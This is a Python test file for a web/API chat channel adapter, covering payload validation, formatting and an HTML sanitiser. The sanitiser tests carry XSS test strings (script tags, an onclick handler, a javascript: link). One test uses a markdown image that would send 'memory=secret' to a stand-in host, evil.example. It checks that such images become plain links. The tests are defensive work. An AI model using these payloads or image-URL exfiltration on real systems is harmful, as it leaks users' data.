"""The built-in web/API channel: payloads in, sanitised HTML out, no HTTP."""

from __future__ import annotations

import pytest

from learnloop.channels import ChannelAdapter, WebAdapter, sanitise_html
from learnloop.errors import ValidationError


def test_it_is_a_channel_adapter_with_no_limit_by_default() -> None:
    web = WebAdapter()
    assert isinstance(web, ChannelAdapter)
    assert (web.channel, web.message_limit) == ("web", 0)
    assert WebAdapter("api").channel == "api"
    with pytest.raises(ValidationError):
        WebAdapter("telegram")


def test_resolve_user_and_parse_an_api_payload() -> None:
    web = WebAdapter("api")
    user = web.resolve_user({"user_id": "u-1", "text": "hi", "display_name": "Ada"})
    assert user is not None and (user.channel, user.channel_user_id, user.display_name) == ("api", "u-1", "Ada")
    [message] = web.parse({"session": "visitor-9", "text": "hello", "message_id": "m1"})
    assert (message.sender.channel_user_id, message.message_id, message.text) == ("visitor-9", "m1", "hello")
    assert message.sender.metadata == {"anonymous": True}
    assert web.resolve_user({"text": "no one"}) is None


@pytest.mark.parametrize(
    "payload",
    [
        {"text": "hi"},
        {"user_id": "u", "text": ""},
        {"user_id": "u"},
        {"user_id": ["x"], "text": "a"},
        {"user_id": "x" * 201, "text": "a"},
    ],
)
def test_bad_payloads_are_validation_errors(payload: dict[str, object]) -> None:
    with pytest.raises(ValidationError):
        WebAdapter().parse(payload)


async def test_send_returns_the_formatted_parts_without_http() -> None:
    [sent] = await WebAdapter().send("u-1", "Hello **you**")
    assert sent.text == "<p>Hello <strong>you</strong></p>" and sent.recipient == "u-1"
    parts = await WebAdapter(message_limit=40).send("u-1", "First paragraph here.\n\nSecond paragraph here.")
    assert [p.text for p in parts] == ["First paragraph here.", "Second paragraph here."]


async def test_send_error_is_a_friendly_sentence() -> None:
    [sent] = await WebAdapter().send_error("u-1", KeyError("internal detail"))
    assert "internal detail" not in sent.text and "Sorry" in sent.text


def test_the_sanitiser_removes_script_handlers_and_unsafe_links() -> None:
    dirty = '<p onclick="x()">a</p><script>alert(1)</script><style>p{}</style><a href="javascript:alert(1)">l</a>'
    clean = sanitise_html(dirty + '<a href="https://e.co">ok</a><iframe src="https://e.co"></iframe>')
    assert "onclick" not in clean and "script" not in clean and "style" not in clean and "javascript" not in clean
    assert "iframe" not in clean and '<a href="https://e.co" rel="noopener noreferrer nofollow">ok</a>' in clean


def test_an_image_is_a_link_so_the_page_fetches_nothing_by_itself() -> None:
    [page] = WebAdapter().format_response("![chart](https://evil.example/pixel.png?memory=secret)")
    assert "<img" not in page
    assert '<a href="https://evil.example/pixel.png?memory=secret" rel="noopener noreferrer nofollow">chart</a>' in page
    assert "<img" not in sanitise_html('<img src="https://e.co/x.png">')
